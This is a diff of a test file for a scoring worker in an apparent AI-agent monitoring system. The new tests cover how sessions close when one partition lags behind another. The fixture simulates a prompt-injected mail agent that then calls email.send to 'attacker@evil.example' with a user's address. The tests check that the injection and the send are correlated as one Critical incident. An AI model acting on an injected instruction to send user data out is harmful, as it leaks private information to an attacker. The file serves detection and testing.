@@ -1,5 +1,6 @@
-import { MemoryBus, type BatchHandler, type Bus, type RecordPosition, type SubscribeOptions } from '@warden/bus';
-import { Topics, silentLogger, type AgentEvent, type RiskFinding, type SessionVerdict } from '@warden/core';
+import { MemoryBus } from '@warden/bus';
+import { drivenEvents } from '../../../packages/bus/testkit/driven-events';
+import { IDLE_PARTITION_MS, Topics, silentLogger, type AgentEvent, type RiskFinding, type SessionVerdict } from '@warden/core';
 import { SessionBuilder } from '../../../packages/detection/testdata/session-builder';
 import { createScoringWorker } from './scoring-worker';
 
@@ -141,35 +142,6 @@ describe('scoring worker', () => {
   });
 
   describe('on a transport that keeps records (positions given)', () => {
-    /** A memory bus whose events subscription the test drives by hand, positions and all. */
-    async function drivenEvents(): Promise<{
-      bus: Bus;
-      deliver: (events: AgentEvent[], offset: number, partition?: number) => Promise<void>;
-      retained: () => RecordPosition[];
-      revoke: (partitions: number[]) => void;
-    }> {
-      const inner = new MemoryBus();
-      await inner.start();
-      let handler: BatchHandler<AgentEvent> | undefined;
-      let options: SubscribeOptions | undefined;
-      const bus: Bus = Object.assign(Object.create(inner) as Bus, {
-        subscribe: (async (topic: string, o: SubscribeOptions, h: BatchHandler<never>) => {
-          if (topic !== Topics.events) return inner.subscribe(topic as never, o, h);
-          options = o;
-          handler = h as unknown as BatchHandler<AgentEvent>;
-          return { close: async () => undefined };
-        }) as Bus['subscribe'],
-      });
-      return {
-        bus,
-        // Each event its own message, numbered from `offset`, in `partition` (default 0).
-        deliver: (events, offset, partition = 0) =>
-          handler!(events.map((value, i) => ({ key: `${value.tenant}/${value.agentId}`, value, position: { partition, offset: String(offset + i) } }))),
-        retained: () => [...(options?.retainedPositions?.() ?? [])],
-        revoke: (partitions) => options?.onRevoked?.(partitions),
-      };
-    }
-
     it('retains the first position of each open session until its verdict is out, so a successor rebuilds it', async () => {
       const { bus, deliver, retained } = await drivenEvents();
       let nowMs = 0;
@@ -214,6 +186,56 @@ describe('scoring worker', () => {
       await deliver(later.events, 90);
       expect(retained().map((p) => p.offset)).toEqual(['50', '90']);
       await worker.stop();
+    });
+
+    describe('a partition read behind another (a backlog, a rebalance)', () => {
+      /**
+       * mail-1's injection in partition 0, mail-2's traffic an hour later (event time) in partition 1
+       * for `flowMs` of processing time, then mail-1's send in partition 0.
+       */
+      async function sendBehindPartition(flowMs: number): Promise<{ s1: RiskFinding[]; s1EndedBeforeSend: boolean }> {
+        const { bus, deliver } = await drivenEvents();
+        const findings: RiskFinding[] = [];
+        await bus.subscribe(Topics.findings, { group: 'test' }, async (b) => void findings.push(...b.map((r) => r.value)));
+        let nowMs = 3 * 60 * MIN;
+        const worker = createScoringWorker({ sessionIdleMs: 10 * MIN, tickMs: 5 }, { bus, logger: silentLogger, clock: { nowMs: () => nowMs } });
+        await worker.start();
+        const s1 = injectedInbox('s1');
+        await deliver(s1.events, 0, 0);
+        const other = new SessionBuilder({ ...agent, agentId: 'mail-2' }, 'other', 60 * MIN);
+        other.turn('Hello.');
+        let offset = 0;
+        // Partition 1 keeps delivering (so the wall clock ends nothing) past the grace.
+        for (let flowed = 0; flowed <= flowMs; flowed += 1_000) {
+          await deliver(other.events.slice(-2), (offset += 2), 1);
+          other.turn('And again.');
+          nowMs += 1_000;
+          await new Promise((r) => setTimeout(r, 20));
+        }
+        const s1EndedBeforeSend = findings.some((f) => f.sessionId === 's1' && f.activity === 'close');
+        const sent = s1.events.length;
+        s1.tool('email.send', { to: 'attacker@evil.example', body: 'jane@mail.example' }, { ok: true });
+        await deliver(s1.events.slice(sent), 100, 0);
+        // Nothing more arrives: the wall clock ends what is left.
+        nowMs += 60 * MIN;
+        await eventually(() => worker.stats().liveSessions === 0, 'every session to end');
+        await worker.stop();
+        return { s1: findings.filter((f) => f.sessionId === 's1'), s1EndedBeforeSend };
+      }
+
+      it("keeps its sessions open on its own event time: the injection and the send it caused are one incident, Critical", async () => {
+        const { s1, s1EndedBeforeSend } = await sendBehindPartition(5_000);
+        expect(s1EndedBeforeSend).toBe(false);
+        expect(s1.filter((f) => f.activity === 'close').map((f) => f.severity)).toEqual(['critical']);
+        expect(s1.some((f) => f.signals.some((x) => x.rule === 'correlation.trigger_then_sensitive_action'))).toBe(true);
+      });
+
+      it(`once it has delivered nothing for ${IDLE_PARTITION_MS / 1000} s, its sessions end on the other partitions' event time`, async () => {
+        const { s1, s1EndedBeforeSend } = await sendBehindPartition(IDLE_PARTITION_MS + 2_000);
+        expect(s1EndedBeforeSend).toBe(true);
+        // The send came after its session had ended: it is judged apart.
+        expect(s1.filter((f) => f.activity === 'close').map((f) => f.severity)).toEqual(['low', 'informational']);
+      });
     });
 
     it('lets go of the sessions of a partition a rebalance moved away: no verdict, no Close, nothing retained', async () => {
